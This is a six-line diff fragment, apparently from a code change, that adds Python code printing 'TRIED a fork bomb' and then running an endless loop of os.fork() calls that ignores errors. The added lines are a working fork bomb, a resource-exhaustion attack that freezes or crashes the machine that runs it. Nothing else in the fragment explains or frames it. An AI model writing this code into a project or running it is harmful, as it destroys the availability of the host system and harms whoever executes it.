@@ -1,0 +1,6 @@
+say("TRIED a fork bomb")
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
